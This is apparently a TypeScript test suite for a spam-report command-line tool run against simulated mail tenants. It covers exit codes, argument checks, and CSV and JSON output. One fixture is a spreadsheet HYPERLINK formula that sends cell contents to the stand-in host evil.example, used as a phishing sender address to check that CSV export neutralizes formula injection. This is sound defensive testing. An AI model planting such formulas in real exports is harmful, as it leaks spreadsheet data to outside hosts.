import assert from 'node:assert/strict';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DEMO } from '../../../src/simulator/scenario/demo.js';
import { mailFlowSchema } from '../../../src/simulator/scenario/flow-schema.js';
import type { ScenarioTenant } from '../../../src/simulator/scenario/schema.js';
import { spamReportFileSchema } from '../../../src/spam/report-json.js';
import { spamViews } from '../../../src/spam/view.js';
import { parseCsv } from '../../e2e/cli-process.js';
import { SimulatedTenants, withoutMail, type Ended } from './simulated-tenants.js';

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")@attacker.example';

/** Contoso with ten days of mail, and an account that somebody took over last night. */
function busy(tenant: ScenarioTenant): ScenarioTenant {
  const quiet = withoutMail(tenant);
  if (tenant.tenantId !== DEMO.contoso) return quiet;
  const flow = mailFlowSchema.parse({ perDay: 60, days: 20 });
  return {
    ...quiet,
    mail: { ...quiet.mail, flow, stories: [{ story: 'account-bursts-at-night', daysAgo: 1 }] },
  };
}

/** Nothing but one piece of phish, from a sender that a spreadsheet would calculate. */
function hostile(tenant: ScenarioTenant): ScenarioTenant {
  const first = tenant.mail.messages[0];
  if (tenant.tenantId !== DEMO.contoso || first === undefined) return withoutMail(tenant);
  const message = {
    ...first,
    senderAddress: formula,
    kind: 'phish' as const,
    filtered: { threat: 'Phish' as const, technology: 'URL malicious reputation' },
  };
  return { ...tenant, mail: { ...tenant.mail, messages: [message] } };
}

describe('inbox-warden spam report', function () {
  this.timeout(90_000);
  let tenants: SimulatedTenants;
  let folder: string;
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'warden-spam-'));
  });
  afterEach(async () => {
    await rm(folder, { recursive: true });
    assert.deepEqual(tenants.simulator.violations(), []);
    await tenants.close();
  });

  const report = (args: readonly string[], ...ids: readonly string[]): Promise<Ended> =>
    tenants.run(['spam', 'report', ...args], ...ids);

  it('ends with 0 when everything was read and the filter minded nothing', async () => {
    tenants = await SimulatedTenants.start(withoutMail);
    const { exitCode, out, err } = await report([], DEMO.contoso);
    assert.deepEqual([exitCode, err], [0, '']);
    assert.match(out, /^Senders from outside: none seen\.\n/);
    assert.match(out, /\nNo mail that the filter minded was seen in the last 7 days\.\n/);
    assert.match(out, /Coverage: 1 of 1 tenant read completely\./);
  });

  it('ends with 1 when something was found, with a table for each view, and says how it is counted', async () => {
    tenants = await SimulatedTenants.start(busy);
    const { exitCode, out } = await report([], DEMO.contoso);
    assert.equal(exitCode, 1);
    for (const title of ['Senders from outside', 'Receivers', 'Own users as senders', 'Changes']) {
      assert.match(out, new RegExp(`^${title}`, 'm'));
    }
    assert.match(out, /^Unwanted mail in the last 7 days: \d+ deliveries\.$/m);
    assert.match(out, /^Contoso: Counted by Advanced hunting: /m);
    assert.match(out, /compromised-account/);
  });

  it('ends with 2 when a tenant could not be read, and never says "nothing" as if it had been', async () => {
    tenants = await SimulatedTenants.start(withoutMail);
    tenants.withdraw(DEMO.fabrikam);
    const { exitCode, out } = await report([], DEMO.contoso, DEMO.fabrikam);
    assert.equal(exitCode, 2);
    assert.match(out, /none seen in what could be read\./);
    assert.match(out, /was seen in the last 7 days, but not everything was read\.\n/);
    assert.match(out, /Coverage: 1 of 2 tenants[^]*Fabrikam[^]*Not read: /);
  });

  it('ends with 3 before it asks anything, for what it would have to guess', async () => {
    tenants = await SimulatedTenants.start(withoutMail);
    const cases: [string[], RegExp][] = [
      [['--days', '0'], /--days: expected a number of days from 1 to 30/],
      [['--days', '31'], /--days/],
      [['--days', '1.5'], /--days/],
      [['--view', 'everything'], /Allowed choices/],
      [['--direction', 'up'], /Allowed choices/],
      [['--mailbox', '*'], /expected an SMTP address/],
      [['--mailbox', 'a@contoso.example'], /say with --tenant in which tenant/],
      [['--tenant', 'Nobody'], /no tenant among 2/],
      [['--format', 'xml'], /Allowed choices/],
      [['--format', 'csv'], /--output: name a directory/],
      [['--format', 'csv', '--view', 'senders', 'internal'], /--output: name a directory/],
      [['--format', 'json', '--view', 'senders'], /--view: the JSON report always holds all views/],
      [['--format', 'json', '--direction', 'inbound'], /--direction: the JSON report always/],
      [['--output', '/no/such/folder/x.csv'], /its directory does not exist/],
      [['--format', 'csv', '--output', '/no/such/folder'], /directory that does not exist/],
    ];
    for (const [args, says] of cases) {
      const { exitCode, out, err } = await report(args, DEMO.contoso, DEMO.fabrikam);
      assert.deepEqual([exitCode, out], [3, ''], args.join(' '));
      assert.match(err, says);
    }
    assert.deepEqual(tenants.simulator.ledger.of('token'), []);
  });

  it('writes CSV of one view to standard output, and no cell that calculates', async () => {
    tenants = await SimulatedTenants.start(hostile);
    const args = ['--format', 'csv', '--view', 'senders', '--days', '30'];
    const { exitCode, out, err } = await report(args, DEMO.contoso);
    assert.equal(exitCode, 1);
    const [header = [], ...rows] = parseCsv(out);
    assert.ok(rows.length > 0 && rows.every((row) => row.length === header.length));
    assert.ok(rows.flat().includes(`'${formula.toLowerCase()}`), out);
    assert.ok(rows.flat().every((cell) => !/^[=+@]|^-\D/.test(cell)));
    assert.match(err, /^Unwanted mail in the last 30 days: 2 deliveries\./);
  });

  it('writes a directory with one CSV for each view, for Excel, and says the figures beside it', async () => {
    tenants = await SimulatedTenants.start(busy);
    const path = join(folder, 'report');
    const ended = await report(['--format', 'csv', '--output', path], DEMO.contoso);
    assert.deepEqual([ended.exitCode, ended.out], [1, '']);
    assert.match(ended.err, /Coverage: 1 of 1 tenant read completely\./);
    assert.deepEqual(await readdir(path), spamViews.map((view) => `${view}.csv`).sort());
    for (const view of spamViews) {
      assert.match(await readFile(join(path, `${view}.csv`), 'utf8'), /^\uFEFF"/, view);
    }
  });

  it('of one direction lists nothing of another', async () => {
    tenants = await SimulatedTenants.start(busy);
    const args = ['--direction', 'outbound', '--view', 'senders', 'internal'];
    const { out } = await report(args, DEMO.contoso);
    assert.match(out, /^Senders from outside: none seen\.$/m);
    assert.match(out, /^Own users as senders\n/m);
    assert.match(out, /^Unwanted outbound mail in the last 7 days: \d+ deliveries\.$/m);
    assert.doesNotMatch(out, /^Receivers/m);
  });

  it('writes JSON in the form of its schema, complete only when everything was read', async () => {
    tenants = await SimulatedTenants.start(busy);
    const args = ['--format', 'json'];
    const whole = spamReportFileSchema.parse(JSON.parse((await report(args, DEMO.contoso)).out));
    assert.equal(whole.complete, true);
    tenants.withdraw(DEMO.fabrikam);
    const both = await report(args, DEMO.contoso, DEMO.fabrikam);
    const part = spamReportFileSchema.parse(JSON.parse(both.out));
    assert.deepEqual([both.exitCode, part.complete], [2, false]);
  });

  it('of one mailbox tells nothing of others', async () => {
    tenants = await SimulatedTenants.start(busy);
    const receivers = async (...args: string[]): Promise<string[]> => {
      const { out } = await report(['-f', 'csv', '-v', 'receivers', ...args], DEMO.contoso);
      const [header = [], ...rows] = parseCsv(out);
      const [list, address] = [header.indexOf('List'), header.indexOf('Address')];
      return rows.flatMap((row) => (row[list] === 'receiver' ? [row[address] ?? ''] : []));
    };
    const [first = ''] = await receivers();
    assert.match(first, /@contoso\.example$/);
    assert.deepEqual(await receivers('--mailbox', first.toUpperCase()), [first]);
  });
});
